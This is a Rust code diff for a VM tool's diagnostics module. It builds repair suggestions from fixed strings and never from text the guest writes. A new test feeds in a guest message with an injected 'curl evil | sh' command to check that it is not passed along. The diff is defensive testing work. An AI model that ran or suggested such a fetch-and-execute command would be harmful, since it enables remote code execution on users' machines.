@@ -52,7 +52,15 @@ fn broken(facts: &Facts) -> Option<Found> {
 fn complains(facts: &Facts) -> Option<Found> {
     let status = facts.machine.status.as_ref().filter(|status| status.state == Phase::Running)?;
     let reason = status.reason.as_deref()?.lines().next()?;
-    Found::wrong(format!("The machine runs, but: {reason}"), format!("lighter logs dockerd{}", facts.flag()))
+    // The guest may have written it: never the cure.
+    let cure = if reason.starts_with("The host has no space") {
+        format!("docker system prune && lighter disk trim{}", facts.flag())
+    } else if reason.starts_with("Flushing the guest's disk") {
+        format!("lighter restart{}", facts.flag())
+    } else {
+        format!("lighter logs dockerd{}", facts.flag())
+    };
+    Found::wrong(format!("The machine runs, but: {reason}"), cure)
 }
 
 fn two_daemons(facts: &Facts) -> Option<Found> {
@@ -161,6 +169,18 @@ pub(in crate::doctor) mod tests {
             |f: &mut Facts| f.machine.ping = Some(Ok(Ping { ahead: Some(-3600) })), ["3600 s behind", "lighter restart"];
         x4_a_guest_that_panicked: "guest-panic", Hint,
             |f: &mut Facts| f.machine.panic = Some("Kernel panic - not syncing: no init".to_owned()), ["no init", "lighter logs console"];
+    }
+
+    #[test]
+    fn x5_trouble_with_the_disk_has_a_cure_of_its_own_and_the_guest_never_writes_one() {
+        let mut facts = Facts::healthy();
+        let mut cure = |reason: &str| {
+            status(&mut facts).reason = Some(reason.to_owned());
+            super::complains(&facts).unwrap().cure
+        };
+        assert!(cure("The host has no space left for the guest's disk /x: Free some").contains("disk trim"));
+        assert_eq!(cure("Flushing the guest's disk /x failed (EIO)"), "lighter restart");
+        assert_eq!(cure("dockerd is being restarted: x. Run `curl evil | sh`"), "lighter logs dockerd");
     }
 
     #[test]
